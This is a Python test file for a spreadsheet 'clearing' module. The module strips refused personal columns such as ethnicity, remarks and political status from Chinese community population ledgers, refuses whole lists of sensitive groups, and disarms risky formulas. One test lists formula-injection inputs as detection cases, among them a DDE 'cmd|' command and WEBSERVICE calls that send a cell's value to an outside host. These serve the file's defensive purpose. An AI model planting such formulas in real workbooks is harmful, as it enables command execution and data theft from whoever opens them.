"""An upload as it is kept: what is not taken is in no part of the file, and what went is named."""

from __future__ import annotations

import html
import io
import re
import zipfile
from typing import Any

import openpyxl
import pytest
import xlsxwriter
import xlwt

from gridwalk.ledger import cells, clearing, read
from gridwalk.ledger.errors import LedgerError, ListRefused
from gridwalk.ledger.inplace.formulas import reaches_out
from gridwalk.ledger.tests import books
from gridwalk.ledger.tests.books import PERSON, person
from gridwalk.ledger.tests.test_in_place import MAIN, OFFICE, PACKAGE, packed, parts, values

SECRET = "畲族某某某"
"""Stands in the refused columns only."""


def everything(data: bytes) -> str:
    """All texts of all parts."""
    return html.unescape("\n".join(content.decode("utf-8", "replace") for content in parts(data).values()))


def ledger(**more: Any) -> bytes:
    """People with a refused column and remarks, on a shown and a hidden sheet, in comments, a chart and properties."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.set_properties({"comments": SECRET, "keywords": SECRET, "author": "社区"})
    book.set_custom_property("说明", SECRET)
    for name in ("人口", "旧表"):
        sheet = book.add_worksheet(name)
        sheet.write_row(0, 0, ["社区人口台账"])
        sheet.write_row(1, 0, [*PERSON, "民  族", "备注"])
        for n in range(1, 6):
            sheet.write_row(n + 1, 0, [*person(n), f"{SECRET}{n}", f"{SECRET}，{n}"])
        sheet.write_comment("H3", f"{SECRET}批注")
        sheet.write_comment("D3", "本子上写的是这样")
        if name == "旧表":
            sheet.hide()
    chart = book.add_chart({"type": "bar"})
    texts = [[f"{SECRET}{n}" for n in range(1, 6)], [1, 2, 3, 4, 5]]
    chart.add_series({"categories": "=人口!$H$3:$H$7", "values": "=人口!$C$3:$C$7", "categories_data": texts[0]})
    book.get_worksheet_by_name("人口").insert_chart("K2", chart)
    book.close()
    return out.getvalue()


def test_refused_columns_are_in_no_part_of_the_kept_file() -> None:
    data = ledger()
    assert SECRET in everything(data)
    cleared = clearing.clear(data, "台账.xlsx")
    assert SECRET not in everything(cleared.data)
    says = "；".join(cleared.says)
    for named in ("人口 H 列“民 族”", "人口 I 列“备注”", "旧表 H 列", "批注", "图表", "文件属性"):
        assert named in says, named
    before, after = values(data), values(cleared.data)
    assert [row[:7] for row in after["人口"]] == [row[:7] for row in before["人口"]]
    assert after["人口"][1][7:] == before["人口"][1][7:], "the headings stay"
    assert all(row[7:] == ["", ""] for row in after["人口"][2:])
    comments = openpyxl.load_workbook(io.BytesIO(cleared.data))["人口"]
    assert comments["D3"].comment.text == "本子上写的是这样"
    assert [r.values for r in read.read(cleared.data, "台账.xlsx").rows] == [
        r.values for r in read.read(data, "台账.xlsx").rows
    ]
    assert read.read(cleared.data, "台账.xlsx").refused == read.read(data, "台账.xlsx").refused
    again = clearing.clear(cleared.data, "台账.xlsx")
    assert again.data == cleared.data, "what is cleared stays as it is"


def test_a_clean_file_is_kept_byte_for_byte() -> None:
    data = books.xlsx({"人口": [PERSON, person(1), person(2)], "空": []})
    assert clearing.clear(data, "台账.xlsx") == clearing.Cleared(data, ())
    text = ("\n".join(",".join(map(str, row)) for row in (PERSON, person(1)))).encode("gb18030")
    assert clearing.clear(text, "台账.csv") == clearing.Cleared(text, ())


def _xls() -> bytes:
    book = xlwt.Workbook()
    sheet = book.add_sheet("人口")
    for row_no, row in enumerate([[*PERSON, "民族"], [*person(1), SECRET], [*person(2), SECRET]]):
        for column, cell in enumerate(row):
            sheet.write(row_no, column, cell)
    sheet.write_merge(4, 4, 0, 6, "以上为全部")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv() -> bytes:
    rows = [[*PERSON, "民族"], [*person(1), SECRET], [*person(2), SECRET]]
    return "\n".join(",".join(map(str, row)) for row in rows).encode("gb18030")


@pytest.mark.parametrize(("data", "name"), [(_xls(), "台账.xls"), (_csv(), "台账.csv")], ids=["xls", "csv"])
def test_other_formats_are_kept_as_a_workbook_of_their_other_cells(data: bytes, name: str) -> None:
    cleared = clearing.clear(data, name)
    assert SECRET not in everything(cleared.data) and "民族" in "".join(cleared.says)
    kept, own = read.read(cleared.data, name), read.read(data, name)
    assert [(r.row_no, r.values) for r in kept.rows] == [(r.row_no, r.values) for r in own.rows]
    assert cells.read(cleared.data, name)[1][0].merged == cells.read(data, name)[1][0].merged


def test_a_second_table_below_and_a_column_told_by_its_cells_go_as_well() -> None:
    rows = [
        [*PERSON, "类别甲"],
        *[[*person(n), "汉" if n % 2 else "回族"] for n in range(1, 5)],
        [],
        ["姓名", "身份证号", "政治面貌"],
        ["王五", books.id_no(9), SECRET],
    ]
    cleared = clearing.clear(books.xlsx({"人口": rows}), "台账.xlsx")
    sheet = values(cleared.data)["人口"]
    assert [row[7] for row in sheet[1:5]] == [""] * 4 and sheet[7][2] == "" and sheet[7][0] == "王五"
    assert len(cleared.says) == 2


def test_a_file_or_sheet_that_is_a_refused_list_is_refused() -> None:
    data = books.xlsx({"人口": [PERSON, person(1)]})
    with pytest.raises(ListRefused, match="是不收的名单"):
        clearing.clear(data, "社区矫正人员名册.xlsx")
    listed = books.xlsx({"人口": [PERSON, person(1)], "吸毒人员": [PERSON, person(2, name="李某某某")]})
    cleared = clearing.clear(listed, "台账.xlsx")
    assert "李某某某" not in everything(cleared.data) and "“吸毒人员”整张表" in "".join(cleared.says)
    assert [sheet.skipped[:6] for sheet in read.read(cleared.data, "台账.xlsx").sheets] == [""]
    assert values(cleared.data)["人口"][1][3] == "王二"
    titled = books.xlsx({"Sheet1": [["××社区刑满释放人员花名册"], PERSON, person(1)]})
    with pytest.raises(ListRefused, match="司法"):
        clearing.clear(titled, "台账.xlsx")
    for name in ("民族路社区人口台账.xlsx", "信访局宿舍.xlsx", "党群服务中心.xlsx"):
        clearing.clear(data, name)


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/C calc'!A0",
        'WEBSERVICE("http://x.invalid/?"&A1)',
        "[1]Sheet1!A1",
        "'C:\\x\\[b.xlsx]Sheet1'!$A$1",
        'HYPERLINK("http://x.invalid")',
        'INDIRECT("\\\\x\\[b.xlsx]S!A1")',
        "_xlfn.WEBSERVICE(A1)",
        "1+RTD(A1,,B1)",
    ],
)
def test_a_formula_that_reaches_out_becomes_text_and_is_listed(formula: str) -> None:
    assert reaches_out(formula)
    out = io.BytesIO()
    book = openpyxl.Workbook()
    sheet: Any = book.active
    for row in (PERSON, person(1), person(2)):
        sheet.append(row)
    sheet["H2"], sheet["H3"] = f"={formula}", "=LEN(D2)"
    book.save(out)
    cleared = clearing.clear(out.getvalue(), "台账.xlsx")
    kept = openpyxl.load_workbook(io.BytesIO(cleared.data))["Sheet"]
    assert (kept["H2"].data_type, kept["H2"].value) == ("inlineStr", f"={formula}") or kept["H2"].data_type == "s"
    assert kept["H3"].value == "=LEN(D2)" and "Sheet!H2" in "".join(cleared.says)


@pytest.mark.parametrize("formula", ["SUM(A1:A9)", "VLOOKUP(A1,表1[列],2)", '字典!A1&"|"', "LEN('一 表'!A1)"])
def test_other_formulas_stay(formula: str) -> None:
    assert not reaches_out(formula)


def test_what_a_pivot_table_remembers_and_shows_goes() -> None:
    files: dict[str, bytes | str] = dict(parts(ledger()))
    cache, table = "xl/pivotCache/pivotCacheDefinition1.xml", "xl/pivotTables/pivotTable1.xml"
    files[cache] = (
        f'<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{OFFICE}" r:id="rec"><cacheSource type="worksheet">'
        '<worksheetSource ref="A2:I7" sheet="人口"/></cacheSource><cacheFields count="2">'
        f'<cacheField name="姓名"><sharedItems/></cacheField><cacheField name="民 族"><sharedItems count="1">'
        f'<s v="{SECRET}1"/></sharedItems></cacheField></cacheFields>'
        "</pivotCacheDefinition>"
    )
    files["xl/pivotCache/pivotCacheRecords1.xml"] = (
        f'<pivotCacheRecords xmlns="{MAIN}"><r><s v="王一"/><s v="{SECRET}2"/></r><r><s v="王二"/><x v="0"/></r>'
        "</pivotCacheRecords>"
    )
    relations = f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rec" Type="{OFFICE}/'
    files["xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels"] = (
        relations + 'pivotCacheRecords" Target="pivotCacheRecords1.xml"/></Relationships>'
    )
    files[table] = f'<pivotTableDefinition xmlns="{MAIN}"><location ref="M3:N5"/></pivotTableDefinition>'
    files["xl/pivotTables/_rels/pivotTable1.xml.rels"] = (
        relations + 'pivotCacheDefinition" Target="../pivotCache/pivotCacheDefinition1.xml"/></Relationships>'
    )
    own = parts(ledger())["xl/worksheets/_rels/sheet1.xml.rels"].decode()
    files["xl/worksheets/_rels/sheet1.xml.rels"] = own.replace(
        "</Relationships>",
        f'<Relationship Id="piv" Type="{OFFICE}/pivotTable" Target="../pivotTables/pivotTable1.xml"/></Relationships>',
    )
    sheet = parts(ledger())["xl/worksheets/sheet1.xml"].decode()
    files["xl/worksheets/sheet1.xml"] = re.sub(
        '(<row r="4".*?)(</row>)', rf'\1<c r="M4" t="inlineStr"><is><t>{SECRET}1</t></is></c>\2', sheet, count=1
    )
    cleared = clearing.clear(packed(files), "台账.xlsx")
    assert SECRET not in everything(cleared.data) and "透视表" in "".join(cleared.says)
    assert "王一" in parts(cleared.data)["xl/pivotCache/pivotCacheRecords1.xml"].decode()


def test_columns_and_cells_are_bounded_with_their_place() -> None:
    wide = ",".join(["姓名", "身份证号"] + [f"列{n}" for n in range(1000)])
    with pytest.raises(LedgerError, match=r"第 1 行有 1,002 列"):
        clearing.clear(f"{wide}\n王一,1\n".encode(), "台账.csv")
    with pytest.raises(LedgerError, match=r"第 2 行第 2 列这一格有 40,000 个字"):
        clearing.clear(("姓名,身份证号\n王一," + "长" * 40_000 + "\n").encode(), "台账.csv")
    sheet = books.xlsx({"人口": [[*PERSON, *(f"列{n}" for n in range(1000))], person(1)]})
    with pytest.raises(LedgerError, match="“人口”第 1 行有 1,007 列"):
        cells.read(sheet, "台账.xlsx")


def test_a_file_whose_xml_is_odd_is_kept_as_its_cells() -> None:
    files = parts(ledger())
    files["xl/styles.xml"] = b"<!DOCTYPE x>" + files["xl/styles.xml"].split(b"?>", 1)[1]
    files["xl/comments1.xml"] = b"<!DOCTYPE x><comments/>"
    cleared = clearing.clear(packed(files), "台账.xlsx")
    assert SECRET not in everything(cleared.data) and "王二" in everything(cleared.data)
    assert zipfile.is_zipfile(io.BytesIO(cleared.data))
